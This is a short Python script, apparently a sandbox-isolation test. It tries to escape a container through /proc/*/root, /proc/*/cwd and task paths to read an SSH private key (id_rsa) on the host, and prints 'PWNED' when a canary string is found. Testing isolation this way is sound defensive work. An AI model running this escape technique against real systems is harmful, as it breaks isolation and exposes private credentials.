"""Reach the machine's root through /proc/*/root, /proc/*/cwd and /proc/*/map_files.

Shows: PWNED on stdout.
"""

import os
from contextlib import suppress

from kit import nearby

names = {1, os.getppid(), "self", *nearby()}
with suppress(OSError):
    names |= set(os.listdir("/proc"))
for name in names:
    for door in ("root", "cwd", "task/1/root", f"task/{name}/cwd", "root/proc/1/root"):
        with suppress(OSError), open(f"/proc/{name}/{door}@VICTIM@/home/.ssh/id_rsa") as file:
            if "CANARY" in file.read():
                print("PWNED", name, door)
